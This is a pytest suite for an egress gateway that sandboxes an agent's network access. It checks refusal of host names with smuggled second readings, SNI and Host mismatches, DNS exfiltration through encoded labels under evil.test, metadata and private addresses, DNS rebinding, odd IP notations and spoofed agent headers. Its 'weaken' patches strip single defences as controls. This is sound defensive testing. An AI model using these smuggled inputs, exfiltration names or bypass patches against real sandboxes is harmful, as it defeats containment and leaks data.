"""Names, parsers and destinations (B02-B25, P02, P09, D09): what was asked, what was checked and what is dialled agree.

Controls: the same attack against a gateway with that one defence taken away (`weaken`) gets through.
"""

import contextlib
import socket
import ssl
import struct

import pytest

from bot_bottle.policy.effective import Route
from gateway_fixtures import Start
from gateway_stand import SECRET, Client, Stand, Upstream, get, route

LOOPBACK_NAMES = "import bot_bottle.egress.names as n\nn._V4 = 0x7F120000"
"""Synthetic addresses inside 127/8, so that a test reaches them without a namespace."""
PRINT_LOOKUPS = """
import sys, bot_bottle.egress.resolve as r
real = r.lookup
def lookup(host):
    print("resolved", host, file=sys.stderr, flush=True)
    return ([ANSWER], "")
r.lookup = lookup
"""


def lookups(answer: str) -> str:
    return PRINT_LOOKUPS.replace("ANSWER", repr(answer))


def no_upstream(upstream: Upstream) -> None:
    assert upstream.connections == 0


def test_b01_b45_an_empty_policy_allows_nothing(start: Start) -> None:
    stand = start(routes=())
    assert stand.connect("example.test").ask(get("/", "example.test")).json["reason"] == "policy.host-not-allowed"
    client = stand.plain()
    assert client.ask(get("http://example.test/", "example.test")).status == 403


@pytest.mark.parametrize("host", ["evil\0.api.test", "evil.test#.api.test", "user@api.test", "api.test\\.evil.test"])
def test_b02_a_name_with_a_second_reading_is_refused(stand: Stand, upstream: Upstream, host: str) -> None:
    client = stand.plain()
    client.send(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode("latin-1"))
    assert client.reply().status == 400
    no_upstream(upstream)


def test_b03_connect_inside_a_connection_is_refused(stand: Stand, upstream: Upstream) -> None:
    client = stand.connect()
    reply = client.ask(b"CONNECT evil.test:443 HTTP/1.1\r\nHost: api.test\r\n\r\n")
    assert (reply.status, reply.json["reason"]) == (400, "target.nested-connect")
    no_upstream(upstream)


def _other_sni(stand: Stand) -> Client:
    client = stand.plain()
    assert client.ask(b"CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n", "HEAD").status == 200
    context = stand.context()
    context.check_hostname = False
    return Client(context.wrap_socket(client.sock, server_hostname="other.test"))


def test_b05_p09_another_sni_behind_connect_is_refused(start: Start, upstream: Upstream) -> None:
    guarded = start(routes=(route(upstream),))
    client = _other_sni(guarded)
    assert client.ask(get("/", "api.test")).json["reason"] == "target.sni-disagrees"
    no_upstream(upstream)
    client.close()
    weak = start(
        routes=(route(upstream),),
        weaken="import bot_bottle.egress.entries.forward as f\nf._choose = lambda site, name: (site, name)",
    )
    client = _other_sni(weak)
    assert client.ask(get("/", "api.test")).status == 200
    client.close()


def test_b06_p09_another_host_behind_an_honest_sni_is_refused(start: Start, upstream: Upstream) -> None:
    other = Route(rule="dev/other", host="other.test", address=f"127.0.0.1:{upstream.port}")
    guarded = start(routes=(route(upstream), other))
    reply = guarded.connect("other.test").ask(get("/", "api.test"))
    assert (reply.status, reply.json["reason"]) == (403, "target.host-disagrees")
    no_upstream(upstream)


def test_p02_an_absolute_target_that_disagrees_is_refused(stand: Stand, upstream: Upstream) -> None:
    client = stand.connect()
    reply = client.ask(get("https://evil.test/", "api.test"))
    assert (reply.status, reply.json["reason"]) == (403, "target.url-disagrees")
    proxy = stand.plain()
    reply = proxy.ask(get("http://api.test/", "evil.test"))
    assert (reply.status, reply.json["reason"]) == (403, "target.host-disagrees")
    no_upstream(upstream)


def _dns(stand: Stand, name: str, kind: int = 1, tcp: bool = False) -> bytes:
    query = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0)
    query += b"".join(bytes((len(label),)) + label.encode() for label in name.split(".")) + b"\0"
    query += struct.pack("!HH", kind, 1)
    if tcp:
        client = stand.plain("dns-tcp")
        client.send(struct.pack("!H", len(query)) + query)
        (size,) = struct.unpack("!H", client.exactly(2))
        return client.exactly(size)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(10)
        sock.sendto(query, ("127.0.0.9", stand.port("dns-udp")))
        reply, peer = sock.recvfrom(2000)
        assert peer[0] == "127.0.0.9"
        return reply


def _code(reply: bytes) -> int:
    return reply[3] & 15


def _address(reply: bytes) -> str:
    assert struct.unpack_from("!H", reply, 6) == (1,), "no answer"
    return socket.inet_ntoa(reply[-4:])


def test_b21_b22_b23_d09_dns_answers_by_itself_and_never_resolves(start: Start, upstream: Upstream) -> None:
    stand = start(routes=(route(upstream),), weaken=lookups("192.0.2.1"))
    assert _address(_dns(stand, "api.test")).startswith("198.18.")
    assert _address(_dns(stand, "api.test", tcp=True)) == _address(_dns(stand, "API.test"))
    assert _dns(stand, "api.test", 28)[-16:].hex().startswith("fd62")
    assert _code(_dns(stand, "c2VjcmV0.evil.test")) == 5
    assert _code(_dns(stand, "api.test", 16)) == 0
    names = stand.wait_record(2, "name")
    assert [(record["target"], record["verdict"]) for record in names] == [
        ("dns://api.test", "allow"),
        ("dns://c2vjcmv0.evil.test", "deny"),
    ]
    assert stand.errors.read_text() == ""
    assert stand.status().names == 6


def test_b21_a_denied_name_is_never_resolved(start: Start, upstream: Upstream) -> None:
    open_route = Route(rule="dev/open", host="open.test")
    stand = start(routes=(open_route,), weaken=lookups("10.0.0.1"))
    stand.connect("secret-data.evil.test").ask(get("/", "secret-data.evil.test"))
    assert stand.errors.read_text() == ""
    stand.connect("open.test").ask(get("/", "open.test"))
    assert stand.errors.read_text() == "resolved open.test\n"


_WRITES = """
import bot_bottle.egress.records as rec, bot_bottle.egress.resolve as r, os, threading
write, look, looked = os.write, r.lookup, threading.Event()
def told(fd, data):
    looked.wait(0.5)  # whoever looks up first has the time to
    print("wrote", b'"kind":"intent"' in data, file=sys.stderr, flush=True)
    return write(fd, data)
def seen(host):
    found = look(host)
    looked.set()
    return found
r.lookup = seen
rec.os = type("os", (), {"write": staticmethod(told), "close": os.close, "fdatasync": os.fdatasync})
"""
_EARLY = """
stage = rec.Journal.stage
def early(self, line, then=None):
    then and then()
    stage(self, line)
rec.Journal.stage = early
"""


@pytest.mark.parametrize(("weaken", "first"), [("", "wrote True"), (_EARLY, "resolved open.test")])
def test_d09_the_intent_is_written_before_the_name_is_resolved(start: Start, weaken: str, first: str) -> None:
    """The control does not wait for the record, and looks the name up first."""
    stand = start(
        routes=(Route(rule="dev/open", host="open.test"),), weaken=lookups("10.0.0.1") + "\n" + _WRITES + weaken
    )
    stand.connect("open.test").ask(get("/", "open.test"))
    stand.wait_record(1, "outcome")
    assert stand.errors.read_text().splitlines()[0] == first


@pytest.mark.parametrize(
    ("answer", "kind"),
    [
        ("127.0.0.1", "loopback"),
        ("10.1.2.3", "private"),
        ("100.64.0.1", "cgnat"),
        ("169.254.169.254", "metadata"),
        ("100.100.100.200", "metadata"),
        ("fd00:ec2::254", "metadata"),
        ("198.18.1.1", "benchmark"),
        ("0.0.0.0", "unspecified"),
        ("224.0.0.1", "multicast"),
        ("::ffff:10.0.0.1", "embedded-ipv4"),
        ("64:ff9b::a00:1", "embedded-ipv4"),
        ("fe80::1%lo", "malformed"),
    ],
)
def test_b13_b16_b18_b20_a_name_that_leads_inside_is_refused(start: Start, answer: str, kind: str) -> None:
    stand = start(routes=(Route(rule="dev/any", host="*.lan.test"),), weaken=lookups(answer))
    reply = stand.connect("evil.lan.test").ask(get("/", "evil.lan.test"))
    assert (reply.status, reply.json["reason"]) == (403, f"address.{kind}")
    intent, outcome = stand.wait_record(2)
    assert (intent["kind"], outcome["kind"], outcome["reason"]) == ("intent", "outcome", f"address.{kind}")


def test_b16_b18_the_same_name_is_reached_when_the_check_is_off(start: Start, plain_upstream: Upstream) -> None:
    open_route = Route(rule="dev/any", host="open.test", scheme="http", ports=(plain_upstream.port,))
    stand = start(
        routes=(open_route,),
        weaken=lookups("127.0.0.1")
        + "import bot_bottle.egress.flow as fl\nfl.public_only = lambda found: (found, None)",
    )
    client = stand.plain()
    assert (
        client.ask(get(f"http://open.test:{plain_upstream.port}/", f"open.test:{plain_upstream.port}")).status == 200
    )


def test_b17_what_was_checked_is_what_is_dialled(start: Start, plain_upstream: Upstream) -> None:
    rebinding = """
import sys, bot_bottle.egress.resolve as r, bot_bottle.egress.flow as fl
answers = ["127.0.0.1", "127.0.0.2", "127.0.0.3"]
def lookup(host):
    print("resolved", host, file=sys.stderr, flush=True)
    return ([answers.pop(0)], "")
r.lookup = lookup
fl.public_only = lambda found: (found, None)
"""
    port = plain_upstream.port
    open_route = Route(rule="dev/any", host="open.test", scheme="http", ports=(port,))
    stand = start(routes=(open_route,), weaken=rebinding)
    client = stand.plain()
    for _ in range(2):
        assert client.ask(get(f"http://open.test:{port}/", f"open.test:{port}")).status == 200
    stand.wait_record(2, "outcome")
    (pinned,) = stand.records("pinned")
    assert pinned["address"] == f"127.0.0.1:{port}"
    again = """
dial = fl.Flow._dial
def late(self, exchange, address):
    found, _ = lookup("open.test")
    dial(self, exchange, f"{found[0]}:{address.rpartition(':')[2]}")
fl.Flow._dial = late
"""
    weak = start(routes=(open_route,), weaken=rebinding + again)
    with socket.create_server(("127.0.0.2", port)) as rebound:
        rebound.settimeout(10)
        client = weak.plain()
        client.send(get(f"http://open.test:{port}/", f"open.test:{port}"))
        rebound.accept()[0].close()
    assert [record["address"] for record in stand.records("outcome")] == [f"127.0.0.1:{port}"] * 2
    assert stand.errors.read_text().count("resolved") == 1


@pytest.mark.parametrize("host", ["169.254.169.254", "127.0.0.1", "8.8.8.8", "[::1]", "[fd00:ec2::254]"])
def test_b10_connect_to_an_address_literal_is_judged_like_a_name(stand: Stand, upstream: Upstream, host: str) -> None:
    client = stand.plain()
    assert client.ask(f"CONNECT {host}:80 HTTP/1.1\r\nHost: {host}:80\r\n\r\n".encode(), "HEAD").status == 200
    reply = client.ask(get("/", host))
    assert (reply.status, reply.json["reason"]) == (403, "policy.host-not-allowed")
    no_upstream(upstream)


def test_b10_an_allowed_literal_is_dialled_only_when_public(start: Start) -> None:
    stand = start(routes=(Route(rule="dev/ip", host="10.1.2.3", scheme="http", ports=(80,)),))
    reply = stand.plain().ask(get("http://10.1.2.3/", "10.1.2.3"))
    assert (reply.status, reply.json["reason"]) == (403, "address.private")


@pytest.mark.parametrize(
    "host", ["0x7f000001", "2130706433", "0177.0.0.1", "127.1", "[::ffff:127.0.0.1]", "[fe80::1%25lo]"]
)
def test_b13_b14_other_notations_of_an_address_are_refused(stand: Stand, host: str) -> None:
    client = stand.plain()
    client.send(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
    assert client.reply().status == 400


def test_b15_case_and_a_trailing_dot_make_no_other_name(stand: Stand, upstream: Upstream) -> None:
    client = stand.plain()
    reply = client.ask(b"CONNECT API.TEST.:443 HTTP/1.1\r\nHost: Api.Test.:443\r\n\r\n", "HEAD")
    assert reply.status == 200
    secure = Client(stand.context().wrap_socket(client.sock, server_hostname="api.test"))
    assert secure.ask(get("/", "API.test")).status == 200
    assert upstream.wait().header("host") == ["api.test"]
    secure.close()


def test_b19_a_redirect_to_a_blocked_host_is_judged_when_it_is_followed(stand: Stand, upstream: Upstream) -> None:
    upstream.script = lambda wire, seen: wire.send(
        b"HTTP/1.1 302 Found\r\nLocation: http://169.254.169.254/\r\nContent-Length: 0\r\n\r\n"
    )
    reply = stand.connect().ask(get())
    assert reply.status == 302
    followed = stand.plain().ask(get(reply.header("location")[0], "169.254.169.254"))
    assert followed.status == 403


@pytest.mark.parametrize("port", [853, 22, 8443])
def test_b25_b11_a_port_that_no_route_names_is_denied(stand: Stand, upstream: Upstream, port: int) -> None:
    reply = stand.connect("api.test", port).ask(get("/", f"api.test:{port}"))
    assert (reply.status, reply.json["reason"]) == (403, "policy.port-not-allowed")
    no_upstream(upstream)


def test_b27_programs_without_a_proxy_arrive_by_synthetic_address(start: Start, upstream: Upstream) -> None:
    stand = start(routes=(route(upstream, ports=(443,)),), weaken=LOOPBACK_NAMES + "\n" + _ANY_PORT)
    address = _address(_dns(stand, "api.test"))
    assert address.startswith("127.18.")
    assert stand.secure("https", address, "api.test").ask(get()).status == 200
    assert stand.secure("port", address, "api.test").ask(get()).status == 200
    assert [record["entry"] for record in stand.wait_record(2, "intent")] == ["https", "port"]


_ANY_PORT = """
import bot_bottle.egress.doors as g
real = g.transparent
g.transparent = lambda gw, leg, kind, address, port: real(gw, leg, kind, address, 80 if kind == "http" else 443)
"""
"""Test doors listen on any port; the seal's are 80 and 443."""


def test_b07_a_spoofed_host_at_another_destination_gets_nothing(start: Start, upstream: Upstream) -> None:
    stand = start(routes=(route(upstream),), weaken=LOOPBACK_NAMES + "\n" + _ANY_PORT)
    _dns(stand, "api.test")
    reply = stand.plain("http", "127.0.0.66").ask(get())
    assert (reply.status, reply.json["reason"]) == (403, "target.host-disagrees")
    no_upstream(upstream)
    assert SECRET not in reply.body


def test_b08_an_allowed_sni_at_another_destination_is_refused(start: Start, upstream: Upstream) -> None:
    stand = start(routes=(route(upstream),), weaken=LOOPBACK_NAMES + "\n" + _ANY_PORT)
    reply = stand.secure("https", "127.0.0.66", "api.test").ask(get())
    assert (reply.status, reply.json["reason"]) == (403, "target.address-disagrees")
    no_upstream(upstream)
    weak = start(
        routes=(route(upstream),),
        weaken=_ANY_PORT
        + "import bot_bottle.egress.entries.transparent as t\nt._choose = lambda s, n: (s._replace(host=n), n)",
    )
    assert weak.secure("https", "127.0.0.66", "api.test").ask(get()).status == 200


def test_b09_no_server_name_at_a_transparent_door_is_refused(start: Start, upstream: Upstream) -> None:
    stand = start(routes=(route(upstream),), weaken=LOOPBACK_NAMES + "\n" + _ANY_PORT)
    address = _address(_dns(stand, "api.test"))
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    client = stand.plain("https", address)
    with pytest.raises(ssl.SSLError, match="UNRECOGNIZED_NAME"):
        context.wrap_socket(client.sock)
    no_upstream(upstream)
    assert stand.wait_record(1, "denied")[0]["reason"] == "target.no-server-name"


@pytest.mark.parametrize(
    "data", [b"\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00", b"SSH-2.0-x\r\n"], ids=["hello", "other"]
)
def test_b09_what_is_no_tls_hello_at_the_tls_door_leaves_a_denial(
    start: Start, upstream: Upstream, data: bytes
) -> None:
    stand = start(routes=(route(upstream),), weaken=LOOPBACK_NAMES + "\n" + _ANY_PORT)
    client = stand.plain("https", _address(_dns(stand, "api.test")))
    client.send(data)
    client.rest()
    no_upstream(upstream)
    assert stand.wait_record(1, "denied")[0]["reason"] == "target.no-server-name"


def test_b41_plain_text_at_a_tls_door_carries_nothing(start: Start, upstream: Upstream) -> None:
    stand = start(routes=(route(upstream),))
    client = stand.plain("https")
    client.send(get())
    assert client.rest() == b""
    no_upstream(upstream)


def test_b72_what_an_agent_says_of_itself_changes_no_verdict(stand: Stand, upstream: Upstream) -> None:
    fields = ("User-Agent: allowed-agent", "X-Agent-Name: root", "X-Bot-Bottle-Rule: dev/api.test")
    assert stand.connect("evil.test").ask(get("/", "evil.test", *fields)).status == 403
    no_upstream(upstream)


@pytest.mark.parametrize("side", ["keeper", "launcher"])
def test_b04_b78_d08_without_keeper_or_launcher_everything_is_closed(stand: Stand, side: str) -> None:
    client = stand.connect()
    stand.drop(side)
    assert stand.wait_exit() == 1
    assert stand.bottle.wait(10) == -9
    with contextlib.suppress(OSError):
        assert client.rest() == b""


def test_d09_b23_names_below_a_wildcard_are_few_and_hold_no_data(start: Start) -> None:
    budget = "import bot_bottle.egress.limits as l\nl.Wildcards.__init__.__defaults__ = (2,)\n"
    stand = start(routes=(Route(rule="dev/any", host="*.wild.test"),), weaken=budget + lookups("10.0.0.1"))
    data = "6578666c747261746564206461746120686572652121"
    names = ["a.wild.test", "b.wild.test", "c.wild.test", f"{data}.wild.test", "a.wild.test"]
    reasons = [str(stand.connect(name).ask(get("/", name)).json["reason"]) for name in names]
    assert reasons == ["address.private", "address.private", "name.budget", "name.encoded", "address.private"]
    assert [line.split()[1] for line in stand.errors.read_text().splitlines()] == [names[0], names[1], names[0]]
